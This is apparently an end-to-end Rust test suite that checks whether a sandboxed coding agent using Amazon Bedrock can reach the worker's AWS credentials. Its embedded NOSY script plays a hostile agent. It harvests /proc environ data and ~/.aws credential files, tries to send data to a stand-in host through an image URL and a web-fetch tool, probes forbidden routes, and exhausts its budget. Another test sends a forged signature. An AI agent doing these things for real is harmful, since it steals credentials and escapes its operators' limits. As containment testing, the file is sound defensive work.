//! Agents whose model is at Amazon Bedrock: the worker signs their requests outside of their walls. A scripted Bedrock makes
//! each signature again; inside there is nothing to sign with.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test may")]

mod endpoint;

use std::path::Path;
use std::time::Duration;

use e2e::api::Api;
use e2e::claude_api::Turn;
use e2e::mail::Letter;
use e2e::remote::Remote;
use e2e::world::{World, plain_site};
use endpoint::{Endpoint, KEY_ID, REGION, SECRET, TOKEN};
use serde_json::{Value, json};

const LIMIT: Duration = Duration::from_mins(5);
const OWNER: &str = "amelia@example.org";

/// An agent that puts everything it can find of its surroundings into the site, then asks for what it may not have, then as
/// often as it may.
const NOSY: &str = r#"
import { readFileSync, readdirSync, writeFileSync } from "node:fs";
readFileSync(0, "utf8");
const look = (path) => { try { return readFileSync(path, "utf8"); } catch (error) { return ""; } };
const list = (path) => { try { return readdirSync(path); } catch (error) { return []; } };
const env = process.env;
const found = Object.entries(env).map((pair) => pair.join("="));
for (const id of list("/proc")) found.push(look("/proc/" + id + "/environ"), look("/proc/" + id + "/cmdline"));
for (const home of [env.HOME, "/root"]) for (const name of ["credentials", "config"]) found.push(look(home + "/.aws/" + name));
writeFileSync("site/seen.txt", found.join("\n").replaceAll("\0", "\n"));
const words = { anthropic_version: "bedrock-2023-05-31", max_tokens: 9, messages: [{ role: "user", content: "hello" }] };
const source = { type: "url", url: "https://elsewhere.example/?what-was-seen" };
const picture = { ...words, messages: [{ role: "user", content: [{ type: "image", source }] }] };
const fetched = { ...words, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] };
const ask = async (path, body = words, key = env.AWS_BEARER_TOKEN_BEDROCK, method = "POST") => {
  const headers = { "content-type": "application/json", authorization: "Bearer " + key };
  const sent = method == "GET" ? { method, headers } : { method, headers, body: JSON.stringify(body) };
  return (await fetch(env.ANTHROPIC_BEDROCK_BASE_URL + path, sent)).status;
};
const ours = "/model/eu.anthropic.claude-haiku-4-5-20251001-v1:0/invoke";
const answers = {
  picture: await ask(ours, picture),
  fetched: await ask(ours, fetched),
  stranger: await ask(ours, words, "not-the-key"),
  otherModel: await ask("/model/amazon.nova-pro-v1:0/invoke", words),
  otherAction: await ask("/model/anthropic.claude-haiku-4-5/async-invoke", words),
  otherRoute: await ask("/inference-profiles", words, undefined, "GET"),
  allowed: 0,
};
while (answers.allowed < 100 && (await ask(ours)) == 200) answers.allowed += 1;
writeFileSync("site/answers.json", JSON.stringify(answers));
console.log(JSON.stringify({ type: "result", subtype: "success", result: "Seen." }));
"#;

fn text<'a>(value: &'a Value, field: &str) -> &'a str {
    value[field].as_str().unwrap_or_else(|| panic!("no {field} in {value}"))
}

/// hermes, a worker that has credentials, and a project.
struct Stage {
    world: World,
    hermes: Api,
    remote: Remote,
}

impl Stage {
    async fn new(endpoint: &Endpoint, agent: &str, limits: Value) -> Self {
        let mut world = World::temporary().unwrap();
        let hermes = world.start_hermes("127.0.0.1:0").await.unwrap();
        let settings = [
            ("SANDBOX", "namespaces"),
            ("CLAUDE_CODE_USE_BEDROCK", "1"),
            ("AWS_BEDROCK_REGION", REGION),
            ("ANTHROPIC_BEDROCK_BASE_URL", &endpoint.url),
            ("AWS_ACCESS_KEY_ID", KEY_ID),
            ("AWS_SECRET_ACCESS_KEY", SECRET),
            ("AWS_SESSION_TOKEN", TOKEN),
        ];
        world.start_worker(agent, &settings).await.unwrap();
        let (folder, build) = plain_site().unwrap();
        let remote =
            world.add_project("bakery", folder.path(), Some(build.clone()), (OWNER, "amelia")).await.unwrap();
        let body =
            json!({"repoUrl": remote.url(), "defaultBranch": "main", "build": build, "limits": limits});
        hermes.put("/v1/projects/bakery", &body).await.unwrap();
        Self { world, hermes, remote }
    }

    async fn order(&self, words: &str) -> Value {
        let accepted = self.hermes.order(Letter::new(OWNER, "Hours", words).to_bytes()).await.unwrap();
        self.hermes.job_done(text(&accepted, "commandId"), LIMIT).await.unwrap()
    }

    fn log(&self) -> String {
        self.world.workers[0].log()
    }
}

#[tokio::test]
async fn the_cli_works_over_bedrock_with_requests_that_the_worker_signs() {
    let page = "site/index.html".to_owned();
    let new = format!("Open from 8 to 20, {}", e2e::mail::uuid_like());
    let script = vec![
        Turn::Read { path: page.clone() },
        Turn::Edit { path: page.clone(), old: "Open from 7 to 18".into(), new: new.clone() },
        Turn::Say("The hours are new.".into()),
    ];
    let endpoint = Endpoint::start(script).await;
    let claude = Path::new(env!("CARGO_MANIFEST_DIR")).join("agent/node_modules/.bin/claude");
    assert!(claude.is_file(), "the agent is not installed; run `make agent`");
    let mut stage = Stage::new(&endpoint, claude.to_str().unwrap(), json!({})).await;
    let job = stage.order("We open at 8 and close at 20.").await;
    assert_eq!(job["outcome"], "changed", "{job}\n{}", stage.log());
    assert_eq!(text(&job, "summary"), "The hours are new.");
    assert!(stage.remote.file(text(&job, "branch"), &page).unwrap().contains(&new));
    let asked = endpoint.asked();
    assert!(asked.len() >= 3 && asked.iter().all(|asked| asked.signed), "{asked:?}");
    assert!(asked.iter().all(|asked| asked.path.ends_with("/invoke-with-response-stream")), "{asked:?}");
    assert!(asked[0].body.to_string().contains("We open at 8 and close at 20."));
    assert!(
        asked.iter().all(|asked| asked.headers.keys().all(|name| !name.as_str().starts_with("anthropic")))
    );
    // Ten tokens in and twenty out, three times, by the price of the dearest model in a part of the world.
    let cost = job["usage"]["costUsd"].as_f64().unwrap();
    assert!(
        (cost - 3.3 * (10.0 * 25.0 + 20.0 * 125.0) / 1e6).abs() < 1e-9,
        "read from the event stream: {job}"
    );
    stage.world.stop().await.unwrap();
}

#[tokio::test]
async fn an_agent_over_bedrock_finds_nothing_to_sign_with_and_gets_what_may_be_asked_within_its_budget() {
    let endpoint = Endpoint::start(Vec::new()).await;
    // Four answers of 0.0066 are less than this, five are more.
    let limits = json!({"maxCostUsd": 0.03});
    let mut stage = Stage::new(&endpoint, &format!("node --input-type=module -e '{NOSY}'"), limits).await;
    let job = stage.order("Tell me everything.").await;
    assert_eq!(job["outcome"], "changed", "{job}\n{}", stage.log());
    let branch = text(&job, "branch");
    let seen = stage.remote.file(branch, "site/seen.txt").unwrap();
    for known in ["AWS_BEARER_TOKEN_BEDROCK=hermes-", "CLAUDE_CODE_USE_BEDROCK=1", "AWS_REGION=eu-central-1"]
    {
        assert!(seen.contains(known), "{known} is not in {seen}");
    }
    for secret in [KEY_ID, SECRET, TOKEN] {
        assert!(!seen.contains(secret), "{seen}");
        assert!(!stage.log().contains(secret), "{}", stage.log());
    }
    let answers: Value =
        serde_json::from_str(&stage.remote.file(branch, "site/answers.json").unwrap()).unwrap();
    assert_eq!(
        answers,
        json!({
            "picture": 403, "fetched": 403, "stranger": 401, "otherModel": 403, "otherAction": 403,
            "otherRoute": 403, "allowed": 5,
        }),
        "{}",
        stage.log()
    );
    let asked = endpoint.asked();
    assert_eq!(asked.len(), 5);
    for asked in &asked {
        assert!(asked.signed, "{asked:?}");
        assert_eq!(asked.path, "/model/eu.anthropic.claude-haiku-4-5-20251001-v1%3A0/invoke");
    }
    stage.world.stop().await.unwrap();
}

/// The endpoint that the others rest on.
#[tokio::test]
async fn a_request_with_another_signature_is_answered_by_nobody() {
    let endpoint = Endpoint::start(Vec::new()).await;
    let client = reqwest::Client::builder().no_proxy().build().unwrap();
    let url = format!("{}/model/anthropic.claude-haiku-4-5/invoke", endpoint.url);
    let plain = client.post(&url).body("{}").send().await.unwrap();
    assert_eq!(plain.status(), 403);
    let forged = format!(
        "AWS4-HMAC-SHA256 Credential={KEY_ID}/20261126/{REGION}/bedrock/aws4_request, SignedHeaders=host;x-amz-date, Signature={}",
        "0".repeat(64)
    );
    let request = client.post(&url).header("authorization", forged).header("x-amz-date", "20261126T200000Z");
    let forged = request.header("x-amz-security-token", TOKEN).body("{}").send().await.unwrap();
    assert_eq!(forged.status(), 403);
    assert!(endpoint.asked().iter().all(|asked| !asked.signed));
}
